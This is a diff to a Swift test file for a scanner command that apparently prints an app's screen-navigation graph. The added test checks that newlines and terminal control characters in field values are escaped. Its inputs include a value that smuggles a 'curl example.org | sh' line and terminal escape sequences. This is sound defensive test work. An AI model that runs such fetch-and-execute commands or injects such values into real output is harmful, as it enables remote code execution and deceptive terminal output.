@@ -20,7 +20,7 @@ struct ScanCommandTests {
                   (no group)
                     Settings  screen; leads nowhere; no way found from an entry point
                   Main
-                    Home  -> Settings
+                    Home  -> Settings, (unresolved)
                   Onboarding
                     Login  -> Home
 
@@ -86,10 +86,12 @@ struct ScanCommandTests {
         var graph = ShopGraph.graph
         graph.app.name = "\u{1B}]0;owned\u{7}\u{1B}[31mShop\u{9B}0m\u{202E}"
         graph.unresolved[0].file = "a\u{1B}[2Jb.swift"
+        graph.unresolved[0].reason = "first\nNEXT\n  curl example.org | sh"
         let ending = try BuiltProgram.run("scan", "-", input: GraphJSONWriter.encode(graph))
         #expect(ending.status == 0)
         #expect(ending.text.hasPrefix("\\u{1B}]0;owned\\u{7}\\u{1B}[31mShop\\u{9B}0m\\u{202E}: 2 modules"))
         #expect(!ending.text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
+        #expect(ending.text.contains("first\\u{A}NEXT\\u{A}  curl"))
     }
 
     @Test("Settings of the scanned folder count, and a flag goes before them")
